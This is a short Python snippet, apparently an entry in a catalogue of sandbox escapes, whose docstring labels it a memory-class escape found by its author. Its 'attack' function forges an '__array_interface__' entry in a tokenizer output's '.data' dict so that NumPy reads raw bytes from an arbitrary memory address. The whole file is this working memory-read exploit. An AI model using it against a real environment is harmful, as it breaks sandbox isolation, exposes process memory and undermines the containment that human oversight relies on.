"""Class: memory. Source: own find. Escape: the same through `.data`, a plain dict."""

import numpy as np


def attack(model, tokenizer, address):
    enc = tokenizer("the cat")
    enc.data["__array_interface__"] = {
        "shape": (6,),
        "typestr": "|u1",
        "data": (address, True),
        "version": 3,
    }
    return np.array(enc).tobytes()
